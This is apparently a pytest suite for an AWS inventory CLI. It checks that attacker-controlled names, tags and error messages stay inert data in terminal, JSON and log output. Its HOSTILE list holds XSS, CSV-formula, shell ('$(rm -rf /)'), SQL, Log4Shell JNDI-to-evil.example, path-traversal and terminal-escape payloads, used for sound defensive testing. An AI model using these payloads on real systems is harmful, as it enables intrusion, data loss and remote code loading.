"""What AWS lets anybody write (names, tags, descriptions, messages) stays data: inert in every output, and whole in the
snapshot. Over real sockets, from answer to terminal."""

from __future__ import annotations

import json
import os
import re
import sys
import unicodedata
from collections.abc import Callable, Iterator, Mapping
from itertools import cycle
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from demo.function import Context
from stocktake.announce import summary
from stocktake.catalog import CATALOG
from stocktake.cli import cli
from stocktake.cli.render import CELL_LENGTH, clean, shown
from stocktake.errors import MalformedAnswer, StocktakeError
from stocktake.model import Found, Resource, Target
from stocktake.normalise import normalise
from stocktake.snapshot import (
    DEPTH,
    LINE_BYTES,
    Spool,
    UnitLines,
    is_resource,
    lines_of,
    member,
    resource_line,
    well_formed,
)
from stocktake.store import DirectoryStore, read_lines, read_manifest, read_pointer, read_resources
from tests.every_member import REGION, answering
from tests.few_types import TYPES
from tests.helpers import few, law
from tests.limited import Limited
from tests.loopback import Call, Loopback, Reply
from tests.loopback_aws.route import Asked
from tests.stored import Stored

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b31m\x9d0;title\x9c",
    "\x1b[2J\x1b[H",
    "a\x08\x08\x08b\x7f",
    "\u202egnp.exe",
    "\u2066left\u2069\u061c\u200f",
    "zero\u200b\u200c\u200d\u2060\ufeffwidth",
    "nul\x00byte",
    "../../etc/passwd",
    "a/b",
    "..\\..\\windows",
    "line\nfeed\r\nand\x85next\u2028line\u2029paragraph\x0b\x0c\x1c\x1d\x1e",
    "lone \ud800 surrogate \udfff\udc00",
    "astral \U0001f600 \U00010348",
    "tags \U000e0041\U000e0042",
    "private \ue000 \U0010fffd",
    "z" + "\u0300\u0301\u0489" * 100 + "algo",
    "\u3164hangul\u115ffiller\u2800braille",
    "[red]rich[/red][link=http://evil.example]markup[/link]",
    "[/]",
    ":bomb::skull:",
    "$(rm -rf /); `id` | cat & 'x' \"y\" !!",
    "{0}{1.__class__}",
    "%s%n%x",
    "%00%2e%2e%2f",
    "\\u001b\\x1b\\033",
    "' OR 1=1; --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}<%= 7*7 %>",
    "\N{LATIN SMALL LETTER DOTLESS I}\N{LATIN CAPITAL LETTER I WITH DOT ABOVE}\N{LATIN SMALL LETTER SHARP S}",
)
MEGABYTE = "m" * 1_000_000
SGR = re.compile(r"\x1b\[[0-9;]*m")
KEY = re.compile(r"[A-Za-z0-9=/._-]+\Z")
IDENTIFIES = re.compile(r"(arns?|id|ids|identifier|name|names|url|urls|region|location|manager|engine)$", re.IGNORECASE)
NOT_IN_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
MARK = re.compile(rb"mark(\d{5})k")


# --- an AWS that says such things ---


class Evil:
    """Marks every text of an answer, for which `spoil` then puts hostile texts; `placed` is which."""

    def __init__(self, *, everything: bool = False) -> None:
        self._everything = everything
        self._texts = cycle(HOSTILE)
        self._of_marks: dict[str, str] = {}
        self.placed: set[str] = set()

    def text(self, shape: Any, path: tuple[str, ...]) -> str | None:
        identifies = path[-1] == "[]" or (IDENTIFIES.search(path[-1]) and "Tag" not in path[-2])
        if shape.type_name != "string" or shape.metadata.get("enum") or (identifies and not self._everything):
            return None
        mark = f"mark{len(self._of_marks):05}k"
        self._of_marks[mark] = MEGABYTE if path[:2] == ("ListTags", "Tags") and path[-1] == "*" else next(self._texts)
        return mark

    def spoil(self, asked: Asked, call: Call, reply: Reply) -> Reply:
        if asked.protocol == "cbor" or asked.operation in ("GetCallerIdentity", "ListRegions", "DescribeRegions"):
            return reply
        is_json = "json" in asked.protocol

        def hostile(found: re.Match[bytes]) -> bytes:
            text = self._of_marks[found[0].decode()]
            if not is_json:
                text = NOT_IN_XML.sub("", text).replace("\r", "")  # which XML makes a newline of
                self.placed.add(text)
                return escape(text).encode()
            self.placed.add(text)
            return json.dumps(text)[1:-1].encode()

        return Reply(reply.status, MARK.sub(hostile, reply.body), reply.headers)


def refusing(message: str) -> Callable[[Asked, Call, Reply], Reply]:
    """Refuses all but who we are and which regions there are, in these words."""

    def spoil(asked: Asked, call: Call, reply: Reply) -> Reply:
        if asked.operation in ("GetCallerIdentity", "ListRegions", "DescribeRegions"):
            return reply
        if "json" in asked.protocol:
            return Reply(403, json.dumps({"__type": "AccessDeniedException", "message": message}).encode())
        if asked.protocol == "cbor":
            return Reply(403)
        said = escape(NOT_IN_XML.sub("", message))
        error = f"<Error><Code>AccessDenied</Code><Message>{said}</Message></Error>"
        inner = f"<Errors>{error}</Errors>" if asked.protocol == "ec2" else error
        whole = error if asked.service == "s3" else f"<Response>{inner}</Response>"
        return Reply(
            403, whole.replace("Response>", "ErrorResponse>").encode() if asked.protocol == "query" else whole.encode()
        )

    return spoil


@pytest.fixture
def store(tmp_path: Path) -> Path:
    return tmp_path / "store"


@pytest.fixture
def point(store: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str], None]:
    """Points the SDK at a server."""

    def to(url: str, **more: str) -> None:
        given = {
            "AWS_ENDPOINT_URL": url,
            "STOCKTAKE_STORE": str(store),
            "STOCKTAKE_ATTEMPTS": "1",
            "STOCKTAKE_QUOTA_SHARE": "0",
            "STOCKTAKE_UNPUBLISHED_RATE": "1000",
            "STOCKTAKE_THREADS": "16",
            **more,
        }
        for name, value in given.items():
            monkeypatch.setenv(name, value)

    return to


# --- what comes out ---


def is_inert(text: str, *, on_terminal: bool = False) -> bool:
    if on_terminal:
        text = SGR.sub("", text)
    odd = {char for char in text if char != "\n" and unicodedata.category(char) in ("Cc", "Cf", "Cs", "Co", "Zl", "Zp")}
    return not odd


def command(*arguments: str) -> str:
    done = CliRunner().invoke(cli, arguments, standalone_mode=False)
    assert done.exception is None or isinstance(done.exception, StocktakeError), done.exception
    return done.output


READERS = (("show",), ("show", "--units"), ("find", "a"), ("find", "=cmd"), ("find", "\x1b[31m"), ("verify", "--line"))


def every_reader_is_inert(store: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for terminal in (False, True):
        if terminal:
            monkeypatch.setenv("FORCE_COLOR", "1")
        for arguments in READERS:
            said = command(*arguments, "--store", str(store))
            assert is_inert(said, on_terminal=terminal), (arguments, said)
            assert max(map(len, said.splitlines())) <= 200 or terminal
    monkeypatch.delenv("FORCE_COLOR")
    for arguments in (("show", "--json"), ("show", "--units", "--json"), ("find", "--json", "a"), ("verify", "--json")):
        said = command(*arguments, "--store", str(store))
        assert said.isascii()
        assert is_inert(said)
        json.loads(said)


def invoke(event: Mapping[str, Any]) -> dict[str, Any]:
    from stocktake.handler import handler, logger

    logger.registered_handler.stream = sys.stdout  # type: ignore[attr-defined]
    answer: dict[str, Any] = handler(dict(event), Context(900))  # type: ignore[arg-type]
    return answer


def logs_are_lines_of_json(out: str) -> None:
    lines = out.removesuffix("\n").split("\n")
    assert len(lines) > 1
    for line in lines:
        assert isinstance(json.loads(line), dict)
        assert not re.search(r"[\x00-\x1f]", line)


def keys_are_plain(store: Path) -> None:
    for key in DirectoryStore(store).keys(""):
        assert KEY.match(key), key
        assert ".." not in key


def latest(store: Path) -> tuple[DirectoryStore, dict[str, Any]]:
    opened = DirectoryStore(store)
    pointer, _ = read_pointer(opened, "default")
    assert pointer is not None
    return opened, read_manifest(opened, pointer["manifest"], pointer["sha256"])


def texts_in(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from texts_in(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from texts_in(inner)
    elif isinstance(value, str):
        yield value


def test_hostile_texts_in_every_answer_survive_as_data_and_act_on_nothing(
    point: Callable[..., None], store: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    evil = Evil()
    with Loopback(answering(evil.text, evil.spoil)) as server:
        point(server.url)
        answer = invoke({})
    assert answer["verdict"] == "complete", answer["unseen"]
    logs_are_lines_of_json(capfd.readouterr().out)
    opened, manifest = latest(store)
    found = {text for one in read_resources(opened, manifest) for text in texts_in(one)}
    # Of a few answers only a part is kept; every hostile text stands in many.
    assert {well_formed(text) for text in evil.placed} <= found
    assert MEGABYTE in found
    assert any("\ufffd" in text for text in found)
    keys_are_plain(store)
    every_reader_is_inert(store, monkeypatch)


def test_where_even_identifiers_are_hostile_a_run_is_published_and_can_be_read(
    point: Callable[..., None], store: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    evil = Evil(everything=True)
    with Loopback(answering(evil.text, evil.spoil)) as server:
        point(server.url)
        answer = invoke({})
    assert answer["verdict"] in ("complete", "partial")
    assert answer["resources"] > 20
    opened, manifest = latest(store)
    found = {text for one in read_resources(opened, manifest) for text in texts_in(one)}
    assert len({well_formed(text) for text in evil.placed} & found) > len(HOSTILE)
    logs_are_lines_of_json(capfd.readouterr().out)
    keys_are_plain(store)
    every_reader_is_inert(store, monkeypatch)


@pytest.mark.parametrize("message", [*HOSTILE[8:24:3], "".join(HOSTILE), "m" * 100_000, "\U0001f600\x01" * 1000])
def test_a_hostile_refusal_is_a_reason_like_any_other(
    message: str,
    point: Callable[..., None],
    store: Path,
    capfd: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    with Loopback(answering(lambda _, __: None, refusing(message))) as server:
        point(server.url)
        ran = command("run", "--types", ",".join(TYPES), "--store", str(store))
    assert is_inert(ran)
    assert "denied" in ran
    opened, manifest = latest(store)
    units = list(read_lines(opened, manifest, "units"))
    denied = [one for one in units if one["state"] == "denied"]
    assert len(denied) > 10
    start = NOT_IN_XML.sub("", well_formed(message))[:5]
    assert all(start in NOT_IN_XML.sub("", one["reason"]["message"]) for one in denied)
    keys_are_plain(store)
    every_reader_is_inert(store, monkeypatch)


def test_hostile_refusals_of_every_kind_fit_into_the_answer_of_an_invocation(
    point: Callable[..., None], store: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    with Loopback(answering(lambda _, __: None, refusing("\U0001f600\x01\u2028" * 1000))) as server:
        point(server.url)
        with pytest.raises(StocktakeError, match="collected nothing"):
            invoke({})
    logs_are_lines_of_json(capfd.readouterr().out)


def test_the_answer_of_an_invocation_is_small_whatever_was_not_seen() -> None:
    worst = "\U0001f600" * 400
    group = {
        **dict.fromkeys(("account", "type", "reason", "message"), worst),
        "state": "failed",
        "regions": [f"{worst}{number}" for number in range(500)],
    }
    manifest = {
        "run": {"id": "r", "revision": 1, "inventory": "i" * 63, "seconds": 1.0},
        "verdict": "partial",
        "coverage": 0.5,
        "counts": {"resources": 1, "gaps": 1, "by_state": {}, "by_type": dict.fromkeys(CATALOG, 10**12)},
        "scope": {"accounts": [], "regions_from": "x"},
        "objects": [],
        "calls": {},
    }
    for number in (0, 1, 99, 100, 5000):
        answer = summary(manifest, [group] * number, "key", latest=True)
        assert len(json.dumps(answer)) < 256 * 1000
        assert len(answer["unseen"]) + answer["unseen_more"] == number
    assert len(summary(manifest, [{**group, "regions": ["r"], "message": "m"}] * 5, "key", latest=True)["unseen"]) == 5


# --- names of regions and accounts ---


@pytest.mark.parametrize("name", ["eu-west-1\x1b[31m", "../../etc", "evil.example/", "a b", "\u202e", "x" * 300])
def test_a_region_s_hostile_name_is_shown_inert(
    name: str, point: Callable[..., None], store: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def spoil(asked: Asked, call: Call, reply: Reply) -> Reply:
        if asked.operation == "ListRegions":
            named = [{"RegionName": one, "RegionOptStatus": "ENABLED"} for one in (REGION, name)]
            return Reply(200, json.dumps({"Regions": named}).encode(), reply.headers)
        return reply

    with Loopback(answering(lambda _, __: None, spoil)) as server:
        point(server.url)
        ran = command("run", "--types", "AWS::EC2::V*", "--store", str(store))
        planned = command("run", "--plan", "--types", "AWS::EC2::V*", "--store", str(store))
    assert is_inert(ran)
    assert is_inert(planned)
    keys_are_plain(store)
    every_reader_is_inert(store, monkeypatch)


def test_what_is_no_account_s_id_names_no_object(point: Callable[..., None], store: Path) -> None:
    account = "../" * 7 + "x"  # out of the store, and no further

    def spoil(asked: Asked, call: Call, reply: Reply) -> Reply:
        if asked.operation == "GetCallerIdentity":
            return Reply(
                200, re.sub(rb"<Account>.*?<", b"<Account>" + account.encode() + b"<", reply.body), reply.headers
            )
        return reply

    with Loopback(answering(lambda _, __: None, spoil)) as server:
        point(server.url)
        command("run", "--types", "AWS::EC2::VPC", "--store", str(store))
    keys_are_plain(store)
    assert not list(store.parent.glob("x-*"))


# --- errors that people are told ---


@pytest.fixture
def limited() -> Iterator[tuple[Limited, list[str]]]:
    """The real command line, with an S3 that says what is in the list."""
    said = [""]

    def s3(_: Call) -> Reply:
        text = escape(NOT_IN_XML.sub("", said[0]))
        return Reply(403, f"<Error><Code>AccessDenied</Code><Message>{text}</Message></Error>".encode())

    with Loopback(s3) as server:
        environment = {**os.environ, "AWS_ENDPOINT_URL": server.url, "PYTHONIOENCODING": "ascii"}
        with Limited(2000, 30, environment) as running:
            yield running, said


def test_no_error_acts_on_a_terminal_and_none_is_too_long_to_read(limited: tuple[Limited, list[str]]) -> None:
    running, said = limited
    for hostile in (HOSTILE[9], "".join(HOSTILE), MEGABYTE, "\u202e\U000e0041" * 100_000):
        said[0] = hostile
        for arguments in (
            ("show", "--store", "s3://bucket/prefix"),
            ("show", "--store", "s3://bucket", "20261122T130000Z"),
            ("show", "--store", "x", "--", hostile),
            ("show", "--store", "x", "--inventory", hostile),
            ("verify", "--store", "x", f"--{hostile}"),
            ("find", "--store", "http://" + hostile, "x"),
            ("find", "--store", "x", "a", hostile),
            (hostile,),
        ):
            ended = running.run(*arguments)
            assert ended.code in (1, 2), (arguments, ended)
            assert "Traceback" not in ended.err
            assert is_inert(ended.err), (arguments, ended)
            assert len(ended.err) < 5000, (arguments, len(ended.err))
            assert ended.out == ""


# --- laws over any text ---

ODD = st.text(
    st.one_of(
        st.characters(codec=None, categories=["Cc", "Cf", "Cs", "Co", "Zl", "Zp", "Mn", "Me"]),
        st.characters(codec=None, exclude_categories=[]),
    ),
    max_size=40,
)
TEXTS = st.one_of(st.sampled_from(HOSTILE), ODD)


def through(resources: list[Resource]) -> list[dict[str, Any]]:
    with Spool() as spool:
        lines = UnitLines(spool)
        lines.add(resources)
        data = [spool.read(block.offset, block.length) for block in lines.finish().blocks]
    return [line for one in data for line in lines_of(one, "block")]


@law
@given(TEXTS, TEXTS, TEXTS, TEXTS)
def test_any_text_comes_back_as_it_was_but_for_lone_surrogates_on_one_line(
    identity: str, name: str, key: str, value: str
) -> None:
    resource = Resource(
        "1", "r", "T", identity, name, name, {key: value}, value, {key: [value, {name: identity}], "x": name}
    )
    line = resource_line(resource)
    assert b"\n" not in line
    assert not re.search(rb"[\x00-\x1f]", line)
    (read,) = through([resource])
    assert is_resource(read)
    plain = well_formed
    assert (read["id"], read["name"], read["created"]) == (plain(identity), plain(name), plain(value))
    assert read["tags"] == {plain(key): plain(value)}
    assert read["data"] == (
        {"x": plain(name), plain(key): [plain(value), {plain(name): plain(identity)}]}
        if key != "x"
        else {"x": plain(name)}
    )


def test_letters_that_show_nothing_are_shown_as_their_escapes() -> None:
    for number in (0x34F, 0x115F, 0x2800, 0x3164, 0xFFA0):
        letter = chr(number)
        assert clean(f"a{letter}b") == f"a{letter.encode('unicode_escape').decode()}b"


@law
@given(TEXTS, st.integers(20, 500))
def test_what_is_shown_is_inert_and_short_and_says_what_was_there(text: str, most: int) -> None:
    cleaned = clean(text)
    assert is_inert(cleaned)
    assert "\n" not in cleaned
    assert clean(cleaned) == cleaned or any(unicodedata.category(char) in ("Mn", "Me") for char in cleaned)
    assert len(shown(text * 50, most)) <= most
    if text.isprintable() and text.isascii():
        assert cleaned == text


@settings(few, max_examples=12)
@given(st.lists(TEXTS, min_size=8, max_size=8))
def test_any_texts_in_a_store_are_inert_in_every_reader(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    account, region, identity, arn, name, key, value, message = (well_formed(text) for text in texts)
    stored = Stored(tmp_path_factory.mktemp("hostile") / "store")
    here = {"account": account, "region": region, "type": f"AWS::{name}::{key}"}
    one = {**here, "id": identity, "arn": arn, "name": name, "tags": {key: value}, "created": None, "data": {}}
    resource = {**one, "gaps": [{"path": key, "reason": {"code": key, "message": message}}]}
    stored.edit("snapshot", lambda lines: [resource, *lines[1:]])
    stored.edit(
        "units",
        lambda lines: [
            {**lines[0], **here, "state": "failed", "reason": {"code": key, "message": message}},
            *lines[1:],
        ],
    )

    def change(manifest: Any) -> Any:
        manifest["scope"] |= {
            "accounts": [account, region],
            "regions_from": value,
            "accounts_skipped": {account: value},
        }
        manifest["counts"]["by_type"] |= {name: 0, value: 7}
        manifest["counts"]["by_state"] |= {message: 3}
        return manifest

    stored.edit("manifest", change)
    for terminal in ("", "1"):
        for arguments in (("show",), ("show", "--units"), ("find", "--", identity[:3] or "e"), ("verify",)):
            done = CliRunner().invoke(
                cli,
                [*arguments, "--store", str(stored.folder)]
                if "--" not in arguments
                else [arguments[0], "--store", str(stored.folder), *arguments[1:]],
                standalone_mode=False,
                env={"FORCE_COLOR": terminal} if terminal else {},
            )
            assert done.exception is None or isinstance(done.exception, StocktakeError), done.exception
            assert is_inert(done.output, on_terminal=bool(terminal)), done.output


JSON = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), TEXTS),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(TEXTS, inner, max_size=3)),
    max_leaves=12,
)


@law
@given(st.data())
def test_whatever_an_item_is_what_is_written_of_it_can_be_read(data: st.DataObject) -> None:
    row = CATALOG[data.draw(st.sampled_from(sorted(CATALOG)))]
    names = re.findall(r"[A-Za-z_]\w*", f"{row.id} {row.arn} {row.label} {row.tags} {row.created} {row.region}")
    item = data.draw(st.dictionaries(st.sampled_from([*names, "Other"]), JSON, max_size=8))
    try:
        line = resource_line(normalise(row, Target("1", "eu-west-1", "eu-west-1"), Found(item)))
    except (MalformedAnswer, TypeError, KeyError, AttributeError, ValueError, IndexError):
        return  # the unit says so
    (read,) = lines_of(member(line + b"\n"), "line")
    assert is_resource(read)


@pytest.mark.parametrize(
    ("data", "says"),
    [
        ({"a": "x" * LINE_BYTES}, "no reader takes more"),
        ({"a": [0] * 2_000_001}, "no reader takes more"),
        ({"a": json.loads("[" * DEPTH + "]" * DEPTH)}, f"deeper than {DEPTH}"),
    ],
)
def test_what_no_reader_would_take_is_not_written(data: dict[str, Any], says: str) -> None:
    with pytest.raises(MalformedAnswer, match=says):
        resource_line(Resource("1", "r", "T", "i", None, None, None, None, data))


def test_a_very_long_name_does_not_blow_up_a_table(tmp_path: Path) -> None:
    stored = Stored(tmp_path / "store")
    stored.edit(
        "snapshot", lambda lines: [{**lines[0], "id": MEGABYTE, "name": MEGABYTE, "tags": {MEGABYTE: "a"}}, *lines[1:]]
    )
    said = command("find", "--store", str(stored.folder), "mmmm")
    assert len(said) < 20 * CELL_LENGTH
    assert "1,000,000" in said
    assert said.startswith("type")
